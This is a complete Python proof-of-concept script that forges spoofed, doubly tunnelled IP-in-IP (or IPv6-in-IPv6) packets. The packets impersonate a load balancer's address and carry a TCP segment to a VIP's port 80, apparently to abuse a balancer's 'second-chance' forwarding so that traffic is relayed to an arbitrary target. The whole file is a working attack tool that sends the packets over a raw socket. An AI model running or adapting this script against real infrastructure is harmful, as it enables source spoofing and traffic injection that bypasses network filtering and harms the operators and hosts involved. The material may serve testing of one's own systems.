#!/usr/bin/env python3
"""Forge second-chance packets as an attacker at an unfiltered edge would:
an outer tunnel to a backend and an inner one to TARGET, both from SOURCE
(a balancer's address, spoofed), around a TCP segment from CLIENT to the
VIP's port 80 (stdlib only: a raw socket that takes whole IP headers).

    forge-chance.py SOURCE BACKEND TARGET CLIENT VIP COUNT
"""
import socket
import struct
import sys


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def tcp(pseudo, sport, payload):
    seg = struct.pack("!HHIIBBHHH", sport, 80, 1, 1, 5 << 4, 0x10, 65535, 0, 0) + payload
    return seg[:16] + struct.pack("!H", csum(pseudo(len(seg)) + seg)) + seg[18:]


def ip4(src, dst, proto, body):
    s4, d4 = socket.inet_aton(src), socket.inet_aton(dst)
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 1, 0, 64, proto, 0, s4, d4)
    return hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:] + body


def ip6(src, dst, proto, body):
    s6, d6 = socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)
    return struct.pack("!IHBB16s16s", 6 << 28, len(body), proto, 64, s6, d6) + body


def packet(v6, source, backend, target, client, vip, i):
    payload = b"relay %d" % i
    if v6:
        c6, v = socket.inet_pton(socket.AF_INET6, client), socket.inet_pton(socket.AF_INET6, vip)
        seg = tcp(lambda n: c6 + v + struct.pack("!I3xB", n, socket.IPPROTO_TCP), 40000 + i, payload)
        inner = ip6(client, vip, socket.IPPROTO_TCP, seg)
        return ip6(source, backend, 41, ip6(source, target, 41, inner))
    c4, v = socket.inet_aton(client), socket.inet_aton(vip)
    seg = tcp(lambda n: c4 + v + struct.pack("!xBH", socket.IPPROTO_TCP, n), 40000 + i, payload)
    inner = ip4(client, vip, socket.IPPROTO_TCP, seg)
    return ip4(source, backend, 4, ip4(source, target, 4, inner))


def main():
    source, backend, target, client, vip, count = sys.argv[1:7]
    v6 = ":" in backend
    s = socket.socket(socket.AF_INET6 if v6 else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(int(count)):
        s.sendto(packet(v6, source, backend, target, client, vip, i), (backend, 0))


if __name__ == "__main__":
    main()
